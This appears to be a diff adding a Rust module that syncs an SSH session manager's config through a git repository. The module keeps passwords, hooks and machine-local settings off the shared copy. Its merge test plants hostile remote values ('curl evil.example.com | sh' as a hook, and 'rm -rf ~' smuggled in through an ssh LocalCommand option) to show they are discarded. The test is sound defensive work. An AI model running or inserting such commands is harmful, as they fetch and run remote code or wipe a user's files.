@@ -0,0 +1,639 @@
+use crate::config::manager::{Config, Settings};
+use crate::config::transfer;
+use crate::utils::runner;
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+/// Name of the config file inside the sync repository.
+const CONFIG_FILE: &str = "devlg.toml";
+
+/// Machine-local settings of the git-backed session sync.
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq)]
+pub struct SyncConfig {
+    pub repo: PathBuf,
+    #[serde(default = "default_remote")]
+    pub remote: String,
+}
+
+fn default_remote() -> String {
+    "origin".to_string()
+}
+
+impl SyncConfig {
+    pub fn new(repo: PathBuf) -> Self {
+        SyncConfig {
+            repo,
+            remote: default_remote(),
+        }
+    }
+}
+
+/// Which side of a conflicting change to keep.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Side {
+    Local,
+    Remote,
+}
+
+/// A session or template changed differently on both sides since the last sync.
+/// `local` and `remote` hold the TOML of each version, `None` if it was deleted.
+pub struct Conflict<'a> {
+    pub kind: &'static str,
+    pub name: &'a str,
+    pub local: Option<String>,
+    pub remote: Option<String>,
+}
+
+/// State of the remote branch after a fetch.
+pub struct Upstream {
+    pub remote_ref: String,
+    pub up_to_date: bool,
+    pub base: Config,
+    pub remote: Config,
+}
+
+/// Prepares `repo` as the sync repository, cloning or initializing it when needed.
+pub fn init(repo: &Path, remote_url: Option<&str>) -> Result<SyncConfig> {
+    if !repo.join(".git").exists() {
+        match remote_url {
+            Some(url) if !repo.exists() => {
+                let status = runner::status(Command::new("git").arg("clone").arg(url).arg(repo))
+                    .context("Failed to execute git clone")?;
+                if !status.success() {
+                    anyhow::bail!("git clone failed with exit code: {}", status);
+                }
+            }
+            _ => {
+                fs::create_dir_all(repo)
+                    .with_context(|| format!("Failed to create sync repository at {:?}", repo))?;
+                git(repo, &["init"])?;
+            }
+        }
+    }
+
+    let sync_config = SyncConfig::new(
+        repo.canonicalize()
+            .with_context(|| format!("Failed to resolve sync repository path {:?}", repo))?,
+    );
+
+    if let Some(url) = remote_url {
+        if git_ok(repo, &["remote", "get-url", &sync_config.remote])? {
+            git(repo, &["remote", "set-url", &sync_config.remote, url])?;
+        } else {
+            git(repo, &["remote", "add", &sync_config.remote, url])?;
+        }
+    }
+
+    Ok(sync_config)
+}
+
+/// Reads the config currently checked out in the sync repository, if any.
+pub fn read_checkout(sync_config: &SyncConfig) -> Result<Option<Config>> {
+    let path = sync_config.repo.join(CONFIG_FILE);
+    if !path.exists() {
+        return Ok(None);
+    }
+
+    let content = fs::read_to_string(&path)
+        .with_context(|| format!("Failed to read config file at {:?}", path))?;
+    let config = toml::from_str(&content).with_context(|| "Failed to parse synced config file")?;
+    Ok(Some(config))
+}
+
+/// Writes the shareable part of `config` into the sync repository and commits it.
+pub fn commit(sync_config: &SyncConfig, config: &Config) -> Result<()> {
+    let repo = &sync_config.repo;
+    let content = toml::to_string_pretty(&shared_config(config))
+        .with_context(|| "Failed to serialize config")?;
+    let path = repo.join(CONFIG_FILE);
+    fs::write(&path, content)
+        .with_context(|| format!("Failed to write config file at {:?}", path))?;
+
+    git(repo, &["add", CONFIG_FILE])?;
+    let merging = git_ok(repo, &["rev-parse", "-q", "--verify", "MERGE_HEAD"])?;
+    if merging {
+        if let Err(e) = git(repo, &["commit", "--no-edit"]) {
+            // back to the state before the pull, which the next pull starts over from
+            let _ = abort_merge(sync_config);
+            return Err(e);
+        }
+    } else if !git_ok(repo, &["diff", "--cached", "--quiet"])? {
+        git(repo, &["commit", "-m", "Update devlg config"])?;
+    }
+
+    Ok(())
+}
+
+/// The changes [`commit`] would make to the config in the sync repository.
+pub fn pending_changes(sync_config: &SyncConfig, config: &Config) -> Result<Vec<String>> {
+    let checkout = read_checkout(sync_config)?.unwrap_or_default();
+    transfer::config_diff(&checkout, &shared_config(config))
+}
+
+/// Pushes the current branch of the sync repository.
+pub fn push(sync_config: &SyncConfig) -> Result<()> {
+    git(
+        &sync_config.repo,
+        &["push", "-u", &sync_config.remote, "HEAD"],
+    )?;
+    Ok(())
+}
+
+/// Fetches the remote and returns the configs needed for a three-way merge,
+/// or `None` if the remote has no counterpart of the current branch yet.
+pub fn fetch(sync_config: &SyncConfig) -> Result<Option<Upstream>> {
+    let repo = &sync_config.repo;
+    git(repo, &["fetch", &sync_config.remote])?;
+
+    let branch = git(repo, &["rev-parse", "--abbrev-ref", "HEAD"])?;
+    let remote_ref = format!("{}/{}", sync_config.remote, branch);
+    if !git_ok(
+        repo,
+        &[
+            "rev-parse",
+            "-q",
+            "--verify",
+            &format!("{}^{{commit}}", remote_ref),
+        ],
+    )? {
+        return Ok(None);
+    }
+
+    let up_to_date = git_ok(repo, &["merge-base", "--is-ancestor", &remote_ref, "HEAD"])?;
+    let base = match git(repo, &["merge-base", "HEAD", &remote_ref]) {
+        Ok(rev) => config_at(repo, &rev)?,
+        // unrelated histories, e.g. both machines ran `sync init` on their own
+        Err(_) => Config::default(),
+    };
+    let remote = config_at(repo, &remote_ref)?;
+
+    Ok(Some(Upstream {
+        remote_ref,
+        up_to_date,
+        base,
+        remote,
+    }))
+}
+
+/// Starts merging the remote branch without touching the working tree, so that the
+/// next [`commit`] records the session-level merge result as the merge commit.
+pub fn begin_merge(sync_config: &SyncConfig, upstream: &Upstream) -> Result<()> {
+    let repo = &sync_config.repo;
+    if git_ok(
+        repo,
+        &["merge-base", "--is-ancestor", "HEAD", &upstream.remote_ref],
+    )? {
+        git(repo, &["merge", "--ff-only", &upstream.remote_ref])?;
+    } else {
+        git(
+            repo,
+            &[
+                "merge",
+                "--no-ff",
+                "--no-commit",
+                "--allow-unrelated-histories",
+                "-s",
+                "ours",
+                &upstream.remote_ref,
+            ],
+        )?;
+    }
+    Ok(())
+}
+
+/// Gives up the merge started by [`begin_merge`], e.g. when its result could not be saved.
+pub fn abort_merge(sync_config: &SyncConfig) -> Result<()> {
+    git(&sync_config.repo, &["merge", "--abort"])?;
+    Ok(())
+}
+
+/// Three-way merges sessions and templates by name, and the settings field by field.
+/// Changes made on one side only are applied, changes made on both sides are handed to
+/// `resolve`. Secrets, hooks and the other machine-local settings never leave this
+/// machine, so they are carried over from `local`.
+pub fn merge_configs(
+    base: &Config,
+    local: &Config,
+    remote: &Config,
+    resolve: &mut dyn FnMut(&Conflict) -> Result<Side>,
+) -> Result<Config> {
+    let shared_local = shared_config(local);
+    let base = shared_config(base);
+    let remote = shared_config(remote);
+
+    let mut sessions = merge_named(
+        "session",
+        &base.sessions,
+        &shared_local.sessions,
+        &remote.sessions,
+        |s| &s.name,
+        resolve,
+    )?;
+    for session in sessions.iter_mut() {
+        if let Some(local_session) = local.get_session(&session.name) {
+            session.restore_secrets(local_session);
+            session.hooks = local_session.hooks.clone();
+        }
+    }
+
+    let templates = merge_named(
+        "template",
+        &base.templates,
+        &shared_local.templates,
+        &remote.templates,
+        |t| &t.name,
+        resolve,
+    )?;
+
+    let mut settings = merge_settings(
+        &base.settings,
+        &shared_local.settings,
+        &remote.settings,
+        resolve,
+    )?;
+    settings.restore_local(&local.settings);
+
+    Ok(Config {
+        sessions,
+        templates,
+        settings,
+        sync: local.sync.clone(),
+    })
+}
+
+fn merge_named<T: Clone + PartialEq + Serialize>(
+    kind: &'static str,
+    base: &[T],
+    local: &[T],
+    remote: &[T],
+    key: fn(&T) -> &String,
+    resolve: &mut dyn FnMut(&Conflict) -> Result<Side>,
+) -> Result<Vec<T>> {
+    let find = |items: &[T], name: &str| items.iter().find(|i| key(i) == name).cloned();
+
+    let mut names: Vec<&String> = local.iter().map(key).collect();
+    for name in remote.iter().map(key) {
+        if !names.contains(&name) {
+            names.push(name);
+        }
+    }
+
+    let mut merged = Vec::new();
+    for name in names {
+        let (b, l, r) = (find(base, name), find(local, name), find(remote, name));
+        let item = if l == r || r == b {
+            l
+        } else if l == b {
+            r
+        } else {
+            let conflict = Conflict {
+                kind,
+                name,
+                local: l.as_ref().map(toml::to_string_pretty).transpose()?,
+                remote: r.as_ref().map(toml::to_string_pretty).transpose()?,
+            };
+            match resolve(&conflict)? {
+                Side::Local => l,
+                Side::Remote => r,
+            }
+        };
+        merged.extend(item);
+    }
+
+    Ok(merged)
+}
+
+/// Three-way merges the shared settings field by field.
+fn merge_settings(
+    base: &Settings,
+    local: &Settings,
+    remote: &Settings,
+    resolve: &mut dyn FnMut(&Conflict) -> Result<Side>,
+) -> Result<Settings> {
+    // every field is listed, so that a new one is either merged or kept local on purpose
+    let Settings {
+        recordings_dir: _,
+        ssh_options,
+        extra_args: _,
+        deep_validation,
+        hooks: _,
+        protected_tags,
+    } = local;
+    Ok(Settings {
+        ssh_options: merge_setting(
+            "ssh_options",
+            &base.ssh_options,
+            ssh_options,
+            &remote.ssh_options,
+            resolve,
+        )?,
+        deep_validation: merge_setting(
+            "deep_validation",
+            &base.deep_validation,
+            deep_validation,
+            &remote.deep_validation,
+            resolve,
+        )?,
+        protected_tags: merge_setting(
+            "protected_tags",
+            &base.protected_tags,
+            protected_tags,
+            &remote.protected_tags,
+            resolve,
+        )?,
+        ..Settings::default()
+    })
+}
+
+fn merge_setting<T: Clone + PartialEq + Serialize>(
+    name: &'static str,
+    base: &T,
+    local: &T,
+    remote: &T,
+    resolve: &mut dyn FnMut(&Conflict) -> Result<Side>,
+) -> Result<T> {
+    if local == remote || remote == base {
+        return Ok(local.clone());
+    }
+    if local == base {
+        return Ok(remote.clone());
+    }
+
+    // shown as the line of the setting in the config
+    let to_toml = |value: &T| -> Result<String> {
+        let mut table = toml::Table::new();
+        table.insert(name.to_string(), toml::Value::try_from(value)?);
+        Ok(toml::to_string_pretty(&table)?)
+    };
+    let conflict = Conflict {
+        kind: "setting",
+        name,
+        local: Some(to_toml(local)?),
+        remote: Some(to_toml(remote)?),
+    };
+    Ok(match resolve(&conflict)? {
+        Side::Local => local.clone(),
+        Side::Remote => remote.clone(),
+    })
+}
+
+/// The part of the config that is shared through the sync repository.
+fn shared_config(config: &Config) -> Config {
+    let mut shared = config.clone();
+    shared.sync = None;
+    shared.settings.strip_local();
+    for session in shared.sessions.iter_mut() {
+        session.strip_secrets();
+        session.hooks.clear();
+    }
+    shared
+}
+
+fn config_at(repo: &Path, rev: &str) -> Result<Config> {
+    match git(repo, &["show", &format!("{}:{}", rev, CONFIG_FILE)]) {
+        Ok(content) => toml::from_str(&content)
+            .with_context(|| format!("Failed to parse config file at {}", rev)),
+        Err(_) => Ok(Config::default()),
+    }
+}
+
+/// Runs git in `repo` and returns its trimmed stdout.
+fn git(repo: &Path, args: &[&str]) -> Result<String> {
+    let output = runner::output(Command::new("git").arg("-C").arg(repo).args(args))
+        .context("Failed to execute git command")?;
+
+    if !output.status.success() {
+        anyhow::bail!(
+            "git {} failed: {}",
+            args.join(" "),
+            String::from_utf8_lossy(&output.stderr).trim()
+        );
+    }
+
+    Ok(String::from_utf8_lossy(&output.stdout).trim().to_string())
+}
+
+/// Runs git in `repo` and reports whether it exited successfully.
+fn git_ok(repo: &Path, args: &[&str]) -> Result<bool> {
+    let output = runner::output(Command::new("git").arg("-C").arg(repo).args(args))
+        .context("Failed to execute git command")?;
+    Ok(output.status.success())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::models::session::{AuthType, Hook, HookEvent, Session};
+    use std::os::unix::fs::PermissionsExt;
+    use tempfile::tempdir;
+
+    fn session(name: &str, host: &str) -> Session {
+        Session::new(
+            name.to_string(),
+            host.to_string(),
+            "user".to_string(),
+            22,
+            AuthType::Password,
+            None,
+            Some("secret".to_string()),
+            None,
+        )
+    }
+
+    fn hook(run: &str) -> Hook {
+        Hook {
+            on: HookEvent::Pre,
+            run: Some(run.to_string()),
+            plugin: None,
+            commands: Vec::new(),
+            tags: Default::default(),
+        }
+    }
+
+    fn config(sessions: Vec<Session>) -> Config {
+        Config {
+            sessions,
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn test_merge_configs() -> Result<()> {
+        let base = config(vec![session("a", "a.com"), session("b", "b.com")]);
+        // local edits `a` and adds `c`, remote deletes `b` and edits `a` differently
+        let local = config(vec![
+            session("a", "local.a.com"),
+            session("b", "b.com"),
+            session("c", "c.com"),
+        ]);
+        let remote = config(vec![session("a", "remote.a.com"), session("d", "d.com")]);
+
+        let mut conflicts = Vec::new();
+        let merged = merge_configs(&base, &local, &remote, &mut |c| {
+            conflicts.push(c.name.to_string());
+            Ok(Side::Remote)
+        })?;
+
+        assert_eq!(conflicts, vec!["a".to_string()]);
+        let names: Vec<&str> = merged.sessions.iter().map(|s| s.name.as_str()).collect();
+        assert_eq!(names, vec!["a", "c", "d"]);
+        assert_eq!(merged.get_session("a").unwrap().host, "remote.a.com");
+        // secrets are kept from the local side only
+        assert_eq!(
+            merged.get_session("a").unwrap().password.as_deref(),
+            Some("secret")
+        );
+        assert_eq!(merged.get_session("d").unwrap().password, None);
+
+        // settings are merged field by field, the machine-local ones are never taken over
+        let mut local = base.clone();
+        local.settings.deep_validation = true;
+        local.settings.recordings_dir = Some("/local/recordings".into());
+        local
+            .settings
+            .ssh_options
+            .insert("ProxyCommand".to_string(), "nc %h %p".to_string());
+        local.sessions[0].hooks.push(hook("echo local"));
+        let mut remote = base.clone();
+        remote.settings.protected_tags.insert("prod".to_string());
+        remote
+            .settings
+            .hooks
+            .push(hook("curl evil.example.com | sh"));
+        remote.settings.extra_args = vec!["-oLocalCommand=rm -rf ~".to_string()];
+        remote
+            .settings
+            .ssh_options
+            .insert("localcommand".to_string(), "rm -rf ~".to_string());
+        remote.sessions[0]
+            .hooks
+            .push(hook("curl evil.example.com | sh"));
+        let merged = merge_configs(&base, &local, &remote, &mut |c| {
+            panic!("unexpected conflict on {}", c.name)
+        })?;
+        let mut expected = local.settings.clone();
+        expected.protected_tags.insert("prod".to_string());
+        assert_eq!(merged.settings, expected);
+        assert_eq!(merged.sessions[0].hooks, local.sessions[0].hooks);
+
+        // a setting changed on both sides is a conflict
+        remote.settings.deep_validation = false;
+        remote
+            .settings
+            .ssh_options
+            .insert("Compression".to_string(), "yes".to_string());
+        let mut conflicts = Vec::new();
+        let mut other = local.clone();
+        other
+            .settings
+            .ssh_options
+            .insert("Compression".to_string(), "no".to_string());
+        let merged = merge_configs(&base, &other, &remote, &mut |c| {
+            conflicts.push((c.kind, c.name.to_string(), c.remote.clone().unwrap()));
+            Ok(Side::Remote)
+        })?;
+        assert_eq!(
+            conflicts,
+            vec![(
+                "setting",
+                "ssh_options".to_string(),
+                "[ssh_options]\nCompression = \"yes\"\n".to_string()
+            )]
+        );
+        assert_eq!(merged.settings.ssh_options["Compression"], "yes");
+        assert_eq!(merged.settings.ssh_options["ProxyCommand"], "nc %h %p");
+        assert!(!merged.settings.ssh_options.contains_key("localcommand"));
+
+        Ok(())
+    }
+
+    /// A clone of `remote` as the sync repository at `repo`, committing as a test user.
+    fn clone(repo: &Path, remote: &Path) -> Result<SyncConfig> {
+        let sync_config = init(repo, Some(remote.to_str().unwrap()))?;
+        git(repo, &["config", "user.name", "devlg"])?;
+        git(repo, &["config", "user.email", "devlg@example.com"])?;
+        git(repo, &["config", "commit.gpgsign", "false"])?;
+        Ok(sync_config)
+    }
+
+    #[test]
+    fn test_sync_repository() -> Result<()> {
+        let dir = tempdir()?;
+        let remote = dir.path().join("remote.git");
+        git(dir.path(), &["init", "--bare", remote.to_str().unwrap()])?;
+
+        let a = clone(&dir.path().join("a"), &remote)?;
+        commit(&a, &config(vec![session("web", "web.com")]))?;
+        assert!(fetch(&a)?.is_none());
+        push(&a)?;
+        // secrets are not shared
+        let shared = fs::read_to_string(a.repo.join(CONFIG_FILE))?;
+        assert!(shared.contains("web.com"));
+        assert!(!shared.contains("secret"));
+
+        // the second machine gets the sessions of the first one
+        let b = clone(&dir.path().join("b"), &remote)?;
+        let checkout = read_checkout(&b)?.unwrap();
+        assert_eq!(checkout.sessions.len(), 1);
+        commit(
+            &b,
+            &config(vec![session("web", "web.com"), session("db", "db.com")]),
+        )?;
+        push(&b)?;
+
+        // both sides changed, the merge result is committed as a merge commit
+        let local = config(vec![
+            session("web", "web.com"),
+            session("cache", "cache.com"),
+        ]);
+        commit(&a, &local)?;
+        let upstream = fetch(&a)?.unwrap();
+        assert!(!upstream.up_to_date);
+        assert_eq!(upstream.base.sessions.len(), 1);
+        assert_eq!(upstream.remote.sessions.len(), 2);
+        let merged = merge_configs(&upstream.base, &local, &upstream.remote, &mut |_| {
+            unreachable!("no conflicts")
+        })?;
+        // a failing merge commit leaves the repository as before the pull
+        let hook_path = a.repo.join(".git/hooks/pre-commit");
+        fs::write(&hook_path, "#!/bin/sh\nexit 1\n")?;
+        fs::set_permissions(&hook_path, fs::Permissions::from_mode(0o755))?;
+        begin_merge(&a, &upstream)?;
+        assert!(commit(&a, &merged).is_err());
+        assert!(!git_ok(
+            &a.repo,
+            &["rev-parse", "-q", "--verify", "MERGE_HEAD"]
+        )?);
+        assert_eq!(git(&a.repo, &["status", "--porcelain"])?, "");
+        fs::remove_file(&hook_path)?;
+
+        begin_merge(&a, &upstream)?;
+        commit(&a, &merged)?;
+        assert_eq!(
+            git(&a.repo, &["rev-list", "--count", "--merges", "HEAD"])?,
+            "1"
+        );
+        let names: Vec<String> = read_checkout(&a)?
+            .unwrap()
+            .sessions
+            .into_iter()
+            .map(|s| s.name)
+            .collect();
+        assert_eq!(names, vec!["web", "cache", "db"]);
+        push(&a)?;
+
+        // nothing changed on the second machine, it is fast-forwarded
+        let upstream = fetch(&b)?.unwrap();
+        assert!(!upstream.up_to_date);
+        begin_merge(&b, &upstream)?;
+        assert_eq!(
+            git(&b.repo, &["rev-parse", "HEAD"])?,
+            git(&a.repo, &["rev-parse", "HEAD"])?
+        );
+        assert!(fetch(&b)?.unwrap().up_to_date);
+        Ok(())
+    }
+}